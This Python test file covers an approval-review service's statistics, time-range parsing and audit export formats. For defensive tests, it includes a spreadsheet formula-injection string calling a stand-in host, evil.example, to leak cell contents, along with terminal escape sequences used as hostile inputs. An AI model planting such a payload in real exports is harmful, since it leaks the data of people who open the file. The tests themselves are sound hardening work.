"""Figures and the audit export's formats over hand-built records: no server, milliseconds."""

from __future__ import annotations

import argparse
import asyncio
import json
import subprocess
import sys
from collections.abc import AsyncIterator, Iterable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hitl.api.routers.insights import RANGE_PATTERN
from hitl.cli.insights import render
from hitl.durations import RangeError, parse_moment, time_range
from hitl.export import CSV_COLUMNS, MAX_CELL_CHARS, Tally, cell, csv_rows, iter_csv, lines
from hitl.insights import MIN_DECISIONS, OUTCOMES, insights, percentile
from hitl.models import (
    ApprovalContext,
    ApprovalRecord,
    ApprovalStatus,
    DecisionEntry,
    DecisionKind,
    RuleVerdict,
    ToolAction,
    ToolPreview,
)

T0 = datetime(2026, 11, 1, 9, 0, tzinfo=UTC)
HOSTILE_REASON = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def entry(kind: str, reviewer: str, at: datetime, **fields: Any) -> DecisionEntry:
    return DecisionEntry(
        kind=DecisionKind(kind), reviewer=reviewer, received_at=at, outcome="applied", **fields
    )


def record(
    outcome: str,
    *,
    tool: str = "delete_files",
    args: dict[str, Any] | None = None,
    seconds: float = 60,
    reviewer: str = "alice",
    created: datetime = T0,
    shadow: RuleVerdict | None = None,
    scope_key: str | None = None,
    reason: str | None = None,
    n: int = 0,
) -> ApprovalRecord:
    """An approval settled as `outcome` by `reviewer`, `seconds` after it was asked."""
    action = ToolAction(tool=tool, args=args if args is not None else {"paths": [f"f{n}"]})
    decided = created + timedelta(seconds=seconds)
    fields: dict[str, Any] = {}
    status = {
        "pending": ApprovalStatus.PENDING,
        "approved": ApprovalStatus.APPROVED,
        "modified": ApprovalStatus.MODIFIED,
        "rejected": ApprovalStatus.REJECTED,
        "expired": ApprovalStatus.REJECTED,
        "auto": ApprovalStatus.APPROVED,
    }[outcome]
    if outcome in ("approved", "rejected", "modified"):
        kind = {"approved": "approve", "rejected": "reject", "modified": "modify"}[outcome]
        extra = {"args": {"paths": ["other"]}} if kind == "modify" else {}
        fields["decisions"] = [
            entry(kind, reviewer, decided, reason=reason or "", decision_id=f"dec_{n}", **extra)
        ]
        fields.update(reviewer=reviewer, reviewed_at=decided, reason=reason)
        if kind == "modify":
            fields["modified_action_json"] = ToolAction(tool=tool, args={"paths": ["other"]})
    elif outcome == "expired":
        fields.update(reviewer="system:timeout", reviewed_at=decided)
        fields["decisions"] = [entry("timeout", "system:timeout", decided)]
    elif outcome == "auto":
        fields.update(reviewer="policy", reviewed_at=created)
        fields["decisions"] = [entry("policy", "policy", created)]
    return ApprovalRecord(
        id=f"apr_{n:06d}",
        session_id=f"wf-{n % 3}",
        run_id="run-1",
        action_json=action,
        action_digest=action.digest(),
        status=status,
        created_at=created,
        expires_at=created + timedelta(hours=1),
        context=ApprovalContext(original_request="clean up"),
        preview=ToolPreview(summary="delete 1 file"),
        shadow=shadow,
        scope_key=scope_key,
        **fields,
    )


def many(outcomes: Iterable[str], **fields: Any) -> list[ApprovalRecord]:
    start = fields.pop("start", 0)
    return [record(o, n=start + i, **fields) for i, o in enumerate(outcomes)]


# --- figures -------------------------------------------------------------------------------


def test_rates_and_times_per_tool_and_reviewer() -> None:
    records = [
        *many(["approved"] * 6, seconds=10, reviewer="alice"),
        *many(["rejected"] * 2, seconds=100, reviewer="bob", start=10),
        *many(["modified"], seconds=30, reviewer="alice", start=20),
        *many(["expired"], start=30),
        *many(["pending"], start=40),
        *many(["approved"] * 3, tool="write_file", seconds=5, reviewer="bob", start=50),
        *many(["auto"], tool="write_file", start=60),
    ]
    found = insights(records, T0 - timedelta(days=1), now=T0 + timedelta(hours=1))
    delete = next(t for t in found.tools if t.name == "delete_files")
    assert (delete.requests, delete.pending, delete.settled) == (11, 1, 10)
    assert (delete.approved, delete.rejected, delete.modified, delete.expired) == (6, 2, 1, 1)
    assert delete.approve_rate == pytest.approx(0.6) and delete.expiry_rate == pytest.approx(0.1)
    assert delete.reject_rate == pytest.approx(0.2) and delete.modify_rate == pytest.approx(0.1)
    # Times: six 10 s, one 30 s, two 100 s (expired and pending have none).
    assert delete.decide_p50_seconds == 10 and delete.decide_p90_seconds == 100
    write = next(t for t in found.tools if t.name == "write_file")
    assert write.auto == 1 and write.auto_rate == pytest.approx(0.25)
    assert found.tools[0].name == "delete_files", "most requested first"
    alice = next(r for r in found.reviewers if r.name == "alice")
    bob = next(r for r in found.reviewers if r.name == "bob")
    assert (alice.approved, alice.modified, alice.rejected) == (6, 1, 0)
    assert (bob.approved, bob.rejected) == (3, 2)
    assert bob.decide_p50_seconds == 5 and bob.decide_p90_seconds == 100
    assert {r.name for r in found.reviewers} == {"alice", "bob"}, "no system: or policy"
    assert found.overall.requests == 15 and found.approvals == 15


def test_percentile_is_nearest_rank() -> None:
    assert percentile([], 0.5) is None
    assert percentile([4, 1, 3, 2], 0.5) == 2
    assert percentile(list(range(1, 11)), 0.9) == 9
    assert percentile([7], 0.9) == 7


@settings(max_examples=200, deadline=None)
@given(st.lists(st.floats(0, 1e6, allow_nan=False), min_size=1, max_size=50))
def test_percentiles_lie_within_the_values_in_order(values: list[float]) -> None:
    p50, p90 = percentile(values, 0.5), percentile(values, 0.9)
    assert p50 is not None and p90 is not None
    assert min(values) <= p50 <= p90 <= max(values)
    assert sum(v <= p50 for v in values) >= len(values) / 2


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from(OUTCOMES)))
def test_counts_add_up_and_rates_sum_to_one(outcomes: list[str]) -> None:
    found = insights(many(outcomes), T0 - timedelta(days=1), now=T0 + timedelta(hours=1))
    overall = found.overall
    assert overall.requests == len(outcomes) == sum(b.requests for b in found.load)
    settled = len(outcomes) - outcomes.count("pending")
    assert overall.settled == settled
    rates = [
        overall.approve_rate,
        overall.modify_rate,
        overall.reject_rate,
        overall.expiry_rate,
        overall.auto_rate,
    ]
    if settled:
        assert sum(r or 0 for r in rates) == pytest.approx(1)
    else:
        assert rates == [None] * 5


def test_candidates_tools_actions_and_scopes_approved_unchanged_nearly_always() -> None:
    same = {"paths": ["logs/app.log"]}
    records = [
        # 20 of the same exact action, all approved unchanged: the action and the tool.
        *many(["approved"] * 20, args=same),
        # A tool approved 19 times in 20: just below 95%? 19/20 = 95%: a candidate.
        *many(["approved"] * 19 + ["rejected"], tool="list_files", start=100),
        # Approved every time but only 19 times: too few.
        *many(["approved"] * 19, tool="read_file", start=200),
        # Modified once in 20: changed, so 95% unchanged; twice: not a candidate.
        *many(["approved"] * 18 + ["modified"] * 2, tool="write_file", start=300),
        # Commands with one scope key, each call different: the scope, not an action.
        *many(["approved"] * 25, tool="run_command", scope_key="ls -la", start=400),
    ]
    found = insights(records, T0 - timedelta(days=1), now=T0 + timedelta(hours=1))
    named = {(c.kind, c.tool): c for c in found.candidates}
    assert set(named) == {
        ("tool", "delete_files"),
        ("action", "delete_files"),
        ("tool", "list_files"),
        ("tool", "run_command"),
        ("scope", "run_command"),
    }
    action = named[("action", "delete_files")]
    assert action.settled == action.approved == 20 and action.rate == 1
    assert action.action_digest == ToolAction(tool="delete_files", args=same).digest()
    assert json.loads(action.example) == same
    assert named[("tool", "list_files")].rate == pytest.approx(0.95)
    assert named[("scope", "run_command")].scope_key == "ls -la"
    assert found.candidates[0].settled == 25, "most decided first"
    stricter = insights(records, T0 - timedelta(days=1), now=T0, min_rate=1.0, min_decisions=25)
    assert {(c.kind, c.tool) for c in stricter.candidates} == {
        ("tool", "run_command"),
        ("scope", "run_command"),
    }
    assert MIN_DECISIONS == 20


def test_auto_and_pending_approvals_are_no_candidates() -> None:
    records = many(["auto"] * 30) + many(["pending"] * 30, start=100)
    assert insights(records, T0 - timedelta(days=1), now=T0).candidates == []


def test_shadow_agreement_and_disagreements() -> None:
    def verdict(said: str, error: str | None = None) -> RuleVerdict:
        return RuleVerdict(rule="small-deletes", verdict=said, policy_digest="abc123", error=error)  # type: ignore[arg-type]

    records = [
        *many(["approved"] * 7, shadow=verdict("approve")),  # agree
        *many(["rejected"], shadow=verdict("approve"), start=10, reason="not prod"),  # risky
        *many(["expired"], shadow=verdict("approve"), start=11),  # risky
        *many(["modified"], shadow=verdict("approve"), start=12),  # risky
        *many(["rejected", "expired"], shadow=verdict("deny"), start=20),  # agree
        *many(["approved"], shadow=verdict("deny"), start=30),  # costly
        *many(["approved"] * 2, shadow=verdict("ask"), start=40),  # asked
        *many(["rejected"], shadow=verdict("ask", error="bad predicate"), start=50),
        *many(["pending"], shadow=verdict("approve"), start=60),  # not settled
        *many(["approved"] * 3, start=70),  # no shadow
    ]
    shadow = insights(records, T0 - timedelta(days=1), now=T0).shadow
    assert (shadow.compared, shadow.agreed) == (13, 9)
    assert shadow.rate == pytest.approx(9 / 13)
    assert (shadow.asked, shadow.failed) == (3, 1)
    assert (shadow.approved_not_approved, shadow.denied_approved) == (3, 1)
    assert [d.risky for d in shadow.disagreements] == [True, True, True, False]
    assert {d.outcome for d in shadow.disagreements if d.risky} == {
        "rejected",
        "expired",
        "modified",
    }
    rejected = next(d for d in shadow.disagreements if d.outcome == "rejected")
    assert rejected.reason == "not prod" and rejected.rule == "small-deletes"
    [rule] = shadow.rules
    assert (rule.compared, rule.agreed, rule.asked, rule.policy_digest) == (13, 9, 3, "abc123")


def test_load_over_time_hourly_and_daily() -> None:
    hours = [record("approved", created=T0 + timedelta(minutes=m), n=m) for m in (0, 5, 70, 130)]
    short = insights(hours, T0, T0 + timedelta(hours=3))
    assert short.bucket == "hour"
    assert [(b.start.hour, b.requests) for b in short.load] == [(9, 2), (10, 1), (11, 1)]
    days = [record("approved", created=T0 + timedelta(days=d), n=d) for d in (0, 0, 2)]
    long = insights(days, T0 - timedelta(days=1), now=T0 + timedelta(days=3))
    assert long.bucket == "day"
    assert [b.requests for b in long.load] == [0, 2, 0, 1, 0]


# --- time ranges ---------------------------------------------------------------------------


def test_durations_and_dates_as_people_type_them() -> None:
    now = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)
    assert parse_moment("30d", now) == now - timedelta(days=30)
    assert parse_moment("12h", now) == now - timedelta(hours=12)
    assert parse_moment("90m", now) == now - timedelta(minutes=90)
    assert parse_moment("2026-11-01", now) == datetime(2026, 11, 1, tzinfo=UTC)
    assert parse_moment("2026-11-01T10:00+01:00", now) == datetime(2026, 11, 1, 9, tzinfo=UTC)
    for bad, said in [
        ("soon", "neither a duration"),
        ("-3d", "neither a duration"),
        ("0d", "not a duration"),
        ("99999d", "more than 3660 days"),
        ("1900-01-01", "more than 3660 days ago"),
    ]:
        with pytest.raises(RangeError, match=said):
            parse_moment(bad, now)
    with pytest.raises(RangeError, match=r"ends .* before it begins"):
        time_range("1d", "2d", now)
    with pytest.raises(RangeError, match="in the future"):
        time_range("2027-01-01", None, now)
    assert isinstance(RangeError("x"), argparse.ArgumentTypeError), "argparse prints it"


def test_a_moment_at_the_edge_of_the_calendar_is_refused_not_a_crash() -> None:
    # /audit and /insights answered these with a 500 (OverflowError), the CLI a traceback.
    now = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)
    for bad in ("0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-01:00"):
        with pytest.raises(RangeError, match="out of range"):
            parse_moment(bad, now)
        with pytest.raises(RangeError):
            time_range("30d", bad, now)


# --- the export's formats -----------------------------------------------------------------


def test_cells_are_never_formulas_and_always_bounded() -> None:
    for hostile in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\n=1", "\uff1d1+1"]:
        assert cell(hostile).startswith("'"), hostile
    # Controls a terminal would act on show as escapes (the JSON Lines keep them exactly).
    assert cell("\r=1") == "\\r=1" and cell("a\x1b[2Kb\u202e") == "a\\x1b[2Kb\\u202e"
    assert cell("fine = ok") == "fine = ok" and cell(5) == "5" and cell(None) == ""
    assert cell({"b": 1, "a": "=x"}) == '{"a":"=x","b":1}'
    long = cell("x" * 100_000)
    assert len(long) <= MAX_CELL_CHARS and "more characters not shown" in long


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=50))
def test_no_cell_starts_like_a_formula(text: str) -> None:
    assert not cell(text).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


async def _export(records: list[ApprovalRecord], form: str, problems: list[str]) -> str:
    async def source() -> AsyncIterator[ApprovalRecord]:
        for item in records:
            yield item
            await asyncio.sleep(0)

    tally = Tally(problems=problems)
    return "".join(
        [
            line
            async for line in lines(
                source(), form, tally, readable=lambda r: r.action_json.tool != "secret_tool"
            )
        ]
    )  # type: ignore[arg-type]


async def test_csv_one_row_per_decision_with_a_fixed_header() -> None:
    voted = record("approved", n=1, reason=HOSTILE_REASON)
    voted.decisions.insert(0, entry("approve", "bob", T0, note="1 of 2 approvals"))
    records = [voted, record("pending", n=2), record("approved", tool="secret_tool", n=3)]
    text = await _export(records, "csv", ["run wf-9/r1: no worker"])
    rows = list(iter_csv(text))
    assert text.splitlines()[0].split(",") == list(CSV_COLUMNS)
    assert [r["row"] for r in rows] == ["decision", "decision", "approval", "problem", "end"]
    assert [r["decision_reviewer"] for r in rows[:2]] == ["bob", "alice"]
    assert rows[0]["approval_id"] == rows[1]["approval_id"] == voted.id, "repeated per decision"
    assert rows[1]["reason"] == rows[1]["decision_reason"] == "'" + HOSTILE_REASON
    assert rows[2]["approval_id"] == "apr_000002" and rows[2]["decision_kind"] == ""
    assert "no worker" in rows[3]["note"]
    assert "INCOMPLETE" in rows[4]["note"] and "1 withheld" in rows[4]["note"]
    assert all(len(r) == len(CSV_COLUMNS) for r in rows)
    assert "secret_tool" not in text


async def test_jsonl_one_approval_a_line_then_the_end() -> None:
    records = [record("approved", n=1), record("expired", n=2)]
    text = await _export(records, "jsonl", [])
    first, second, end = (json.loads(line) for line in text.splitlines())
    assert ApprovalRecord.model_validate(first) == records[0]
    assert first["workflow_id"] == "wf-1" and first["run_id"] == "run-1"
    assert (first["outcome"], second["outcome"]) == ("approved", "expired")
    assert end == {
        "end": True,
        "approvals": 2,
        "decisions": 2,
        "withheld": 0,
        "complete": True,
        "problems": [],
        "problems_not_shown": 0,
    }


def test_csv_rows_match_the_columns() -> None:
    for outcome in ("pending", "approved", "modified", "rejected", "expired", "auto"):
        for row in csv_rows(record(outcome)):
            assert len(row) == len(CSV_COLUMNS)


def test_the_figures_and_formats_need_no_temporal() -> None:
    code = (
        "import sys, hitl.insights, hitl.export, hitl.durations; "
        "print(sorted(m for m in sys.modules if m.startswith(('temporalio', 'fastapi'))))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


@settings(max_examples=500, deadline=None)
@given(
    st.one_of(
        st.text(max_size=40),
        st.from_regex(RANGE_PATTERN, fullmatch=True).filter(lambda t: len(t) <= 40),
    )
)
def test_any_range_text_is_read_or_refused_in_a_sentence(text: str) -> None:
    now = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)
    try:
        moment = parse_moment(text, now)
    except RangeError as error:
        assert str(error)
    else:
        assert now - timedelta(days=3661) <= moment and moment.tzinfo is not None


def test_stats_render_every_part_as_text() -> None:
    hostile = "x\x1b[2J\u202e"
    records = [
        *many(["approved"] * 20, args={"paths": [hostile]}),
        *many(
            ["rejected"], reason=hostile, start=50, shadow=RuleVerdict(rule="r", verdict="approve")
        ),
    ]
    shown = render(insights(records, T0 - timedelta(days=1), now=T0 + timedelta(hours=1)))
    for part in ("By tool", "By reviewer", "Load (requests per hour", "Shadow rules", "Candidates"):
        assert part in shown
    assert "\x1b" not in shown and "\u202e" not in shown and "\\u202e" in shown
